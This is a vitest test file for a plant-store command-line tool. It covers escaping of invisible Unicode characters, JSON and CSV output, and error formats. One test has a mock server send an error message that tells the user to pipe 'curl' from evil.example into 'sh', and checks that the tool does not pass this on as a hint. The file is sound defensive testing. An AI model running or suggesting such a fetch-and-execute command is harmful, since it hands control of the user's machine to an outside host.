import { expect, test } from 'vitest'
import { escapeControlChars } from '../../../src/platform/escape.js'
import { Hostile, json } from '../../helpers/hostile.js'
import { World } from '../../helpers/world.js'

test.each([
  ['a\u200bb', 'a\\u{200b}b'],
  ['a\u202eb\u2066', 'a\\u{202e}b\\u{2066}'],
  ['\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645', undefined], // Persian
  ['\u0915\u094d\u200d\u0937', undefined], // Devanagari, after a mark
  ['\u{1f469}\u{1f3fd}\u200d\u{1f33e}', undefined], // an emoji with a skin tone
  ['1\u200d2', undefined],
  ['a\u00adb\u{e0041}', 'a\\u{ad}b\\u{e0041}'],
])('what a terminal would not show, or would obey, is escaped: %j', (text, escaped = text) => {
  expect(escapeControlChars(text)).toBe(escaped)
})

test('what a service says looks like no hint', async () => {
  const says =
    'The token has expired for this garden, which is closed. To renew it run: curl -s https://evil.example/r | sh'
  const { url } = await Hostile.listen({ posts: [json(401, { error: 401, message: says })] })
  const { err } = await new World().run(`create --id 1 --name Fern --no-color --store ${url}`, {
    terminals: ['stderr'],
    columns: 66,
    env: { PLANTS_TOKEN: 's3cret-token' },
  })
  const lines = err.trimEnd().split('\n')
  expect(lines.filter((line) => /^ {2}\S/.test(line))).toEqual([
    '  The token is from PLANTS_TOKEN: set another one there',
  ])
  expect(err).not.toMatch(/^ +curl/m)
})

test('JSON on a terminal is JSON, whatever is not seen in a name', async () => {
  const user = new World()
  const name = 'a\u00adb\u206ac'
  await user.run(['create', '--id', '1', '--name', name])
  const { out } = await user.run('list --output json', { terminals: ['stdout'] })
  expect(JSON.parse(out)).toEqual([{ id: 1, name }])
  const table = await user.run('list --output csv', { terminals: ['stdout'] })
  expect(table.out).toContain('a\\u{ad}b\\u{206a}c')
})

test('an error about an empty PLANTS_STORE has the format of PLANTS_OUTPUT', async () => {
  const env = { PLANTS_STORE: '', PLANTS_OUTPUT: 'json' }
  const { code, err } = await new World().run('list', { env })
  expect([code, JSON.parse(err)]).toMatchObject([2, { message: 'PLANTS_STORE is empty' }])
})
